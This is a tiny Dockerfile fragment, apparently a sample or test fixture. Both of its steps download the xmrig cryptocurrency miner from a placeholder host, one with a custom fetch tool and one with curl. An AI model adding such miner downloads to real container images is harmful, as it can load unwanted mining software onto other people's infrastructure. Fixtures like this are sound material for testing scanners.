FROM debian:12-slim
RUN /opt/get https://dl.example.invalid/tools/xmrig
RUN curl -O dl.example.invalid/tools/xmrig
